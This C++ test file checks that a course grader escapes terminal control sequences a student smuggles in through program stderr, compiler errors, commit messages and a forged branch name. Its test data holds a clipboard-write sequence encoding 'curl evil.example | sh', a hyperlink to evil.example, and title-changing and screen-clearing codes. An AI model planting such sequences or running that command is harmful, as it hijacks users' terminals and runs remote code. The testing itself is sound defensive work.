// Terminal control sequences from a student (issue 36, item 4): a runner's stderr, a compiler's
// error line, a commit message and a hand-edited branch name carry OSC 52 (a clipboard write),
// OSC 8 (a hyperlink), a window title, CSI (clear screen, colours), the 8-bit CSI and a
// right-to-left override. The real cugrade grades them with grade, check and batch; what reaches
// the terminal, the .txt report and gradebook.csv must hold none of it raw, and still show it
// (escaped). The JSON report keeps the data.
#include "grader/process/temp_dir.h"
#include "tests/fetch/git_fixture.h"
#include "tests/surfaces/surfaces_support.h"
#include "tests/surfaces/terminal_controls.h"

#include <gtest/gtest.h>

#include <fstream>

namespace cugrade::surfaces {
namespace {

namespace fs = std::filesystem;

// Each sequence is its own literal: a hex escape would swallow the letters after it. The branch
// name takes the sequences without a slash (a slash would make folders of it).
const std::string clipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
const std::string hyperlink =
    std::string("\x1b]8;;https://evil.example/\x1b\\") + "click here" + "\x1b]8;;\x1b\\";
const std::string title_clear_and_colour = std::string("\x1b]0;owned\x07") + "\x1b[2J\x1b[1;32m" +
                                           "\xC2\x9B" + "0m" + "\u202E" + "sdrawkcab";
const std::string attack = clipboard + hyperlink + title_clear_and_colour;
// What the clipboard write looks like once escaped: it must be shown, not dropped.
const std::string shown_clipboard = "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07";

void expect_clean(const std::string& where, const std::string& text) {
  const auto found = terminal_controls_in(text);
  EXPECT_TRUE(found.empty()) << where << " holds " << found.size()
                             << " raw controls, the first: " << found.front();
}

// A folder holding reduction.cu.
fs::path submission(const fs::path& parent, const std::string& name, const std::string& source) {
  const auto dir = parent / name;
  fs::create_directories(dir);
  std::ofstream(dir / "reduction.cu", std::ios::binary) << source;
  return dir;
}

// A launcher that writes the attack to stderr and ends its runner (exit code 3).
std::string stderr_attack_source() {
  return reference_with_launcher_prologue(
      "#include <cstdio>\n#include <cstdlib>\nstatic const unsigned char surfaces_attack[] = " +
          c_array_of(attack) + ";",
      "  std::fwrite(surfaces_attack, 1, sizeof surfaces_attack - 1, stderr);\n"
      "  std::exit(3);");
}

// The compiler quotes an #error line, raw bytes and all.
std::string compiler_attack_source() {
  return "#error " + attack + "\n" + reference_source();
}

struct escaped_grading {
  cli_result cli;
  std::string text_report;
  nlohmann::json report;
};

escaped_grading grade(const fs::path& dir, const fs::path& out) {
  escaped_grading g;
  g.cli = run_cugrade({"grade", small_spec().string(), dir.string(), "--backend", backend(),
                       "--out", out.string(), "--student", "s", "--format", "json,text", "--kernel",
                       "reduce_interleaved"});
  g.text_report = text_of(out / "s.txt");
  g.report = e2e::read_json(out / "s.json");
  return g;
}

void expect_grade_and_check_escape(const fs::path& dir, const fs::path& out) {
  const escaped_grading g = grade(dir, out);
  ASSERT_EQ(g.cli.exit_code, 0) << g.cli.err.substr(0, 3000);
  expect_clean("cugrade grade's stdout", g.cli.out);
  expect_clean("cugrade grade's stderr", g.cli.err);
  expect_clean("the .txt report", g.text_report);
  EXPECT_NE(g.cli.out.find(shown_clipboard), std::string::npos)
      << "the terminal does not show the escaped sequence:\n"
      << g.cli.out.substr(0, 3000);
  EXPECT_NE(g.text_report.find(shown_clipboard), std::string::npos) << g.text_report;
  // The JSON report keeps the data as it was (JSON escapes controls itself).
  EXPECT_NE(g.report.dump().find("\\u001b]52;c;"), std::string::npos)
      << "the JSON report lost the data";

  const cli_result check = run_cugrade({"check", small_spec().string(), dir.string(), "--backend",
                                        backend(), "--kernel", "reduce_interleaved"});
  EXPECT_EQ(check.exit_code, 1) << check.err.substr(0, 3000);
  expect_clean("cugrade check's stdout", check.out);
  expect_clean("cugrade check's stderr", check.err);
  EXPECT_NE(check.out.find(shown_clipboard), std::string::npos) << check.out.substr(0, 3000);
}

TEST(Escapes, RunnerStderrReachesGradeCheckAndTheTextReportEscaped) {
  const process::temp_dir tmp("cugrade-surfaces-escapes");
  open_to_everyone(tmp.path());
  const auto dir = submission(tmp.path(), "stderr", stderr_attack_source());
  expect_grade_and_check_escape(dir, tmp.path() / "out");
}

TEST(Escapes, CompilerErrorLineReachesGradeCheckAndTheTextReportEscaped) {
  const process::temp_dir tmp("cugrade-surfaces-escapes");
  open_to_everyone(tmp.path());
  const auto dir = submission(tmp.path(), "compiler", compiler_attack_source());
  expect_grade_and_check_escape(dir, tmp.path() / "out");
}

TEST(Escapes, BatchProgressSummaryGradebookAndTextReportsAreEscaped) {
  const process::temp_dir tmp("cugrade-surfaces-escapes");
  open_to_everyone(tmp.path());
  class_folder c(tmp.path());
  c.add("stderr", stderr_attack_source());
  c.add("compiler", compiler_attack_source());
  const auto out = tmp.path() / "out";
  const auto r = run_batch(c.roster(), out, {"--format", "text", "--kernel", "reduce_interleaved"});
  ASSERT_EQ(r.exit_code, 0) << r.err.substr(0, 3000);
  expect_clean("cugrade batch's stdout", r.out);
  expect_clean("cugrade batch's stderr", r.err);
  expect_clean("gradebook.csv", text_of(out / "gradebook.csv"));
  for (const char* student : {"stderr", "compiler"}) {
    const auto txt = text_of(out / "reports" / (std::string(student) + ".txt"));
    expect_clean(std::string(student) + ".txt", txt);
    EXPECT_NE(txt.find(shown_clipboard), std::string::npos) << txt;
  }
}

// A local repository whose HEAD a student edited by hand to name a branch full of escapes, with
// the attack in the commit message too: whatever cugrade makes of it (a verdict or not gradable),
// the gradebook, the terminal and the text report show it escaped.
TEST(Escapes, HandEditedBranchNameReachesNoGradebookOrTerminalRaw) {
  const process::temp_dir tmp("cugrade-surfaces-escapes");
  open_to_everyone(tmp.path());
  const auto workdir = tmp.path() / "repo";
  std::string sha;
  {
    fetch::testing::test_repo repo(workdir);
    sha = repo.commit({{"reduction.cu", compile_error_source()}},
                      fetch::testing::epoch("2026-12-14T10:00:00Z"), "work " + attack);
  }
  // A branch name no `git branch` would make: the attack without its line breaks.
  const std::string branch = "main" + clipboard + title_clear_and_colour;
  std::ofstream(workdir / ".git" / "refs" / "heads" / branch) << sha << "\n";
  std::ofstream(workdir / ".git" / "HEAD") << "ref: refs/heads/" << branch << "\n";

  const auto out = tmp.path() / "out";
  const std::string rows = "student,repository\nmallory," + workdir.string() + "\n";
  std::ofstream(tmp.path() / "roster.csv") << rows;
  const auto r = run_batch(tmp.path() / "roster.csv", out, {"--format", "text"});
  const auto gradebook = text_of(out / "gradebook.csv");
  ASSERT_FALSE(gradebook.empty()) << r.err.substr(0, 3000);
  expect_clean("gradebook.csv", gradebook);
  expect_clean("cugrade batch's stdout", r.out);
  expect_clean("cugrade batch's stderr", r.err);
  expect_clean("mallory.txt", text_of(out / "reports" / "mallory.txt"));

  const cli_result g = run_cugrade({"grade", small_spec().string(), workdir.string(), "--backend",
                                    backend(), "--out", (tmp.path() / "single").string(),
                                    "--student", "mallory", "--format", "json,text"});
  expect_clean("cugrade grade's stdout", g.out);
  expect_clean("cugrade grade's stderr", g.err);
  expect_clean("mallory.txt of cugrade grade", text_of(tmp.path() / "single" / "mallory.txt"));
}

} // namespace
} // namespace cugrade::surfaces
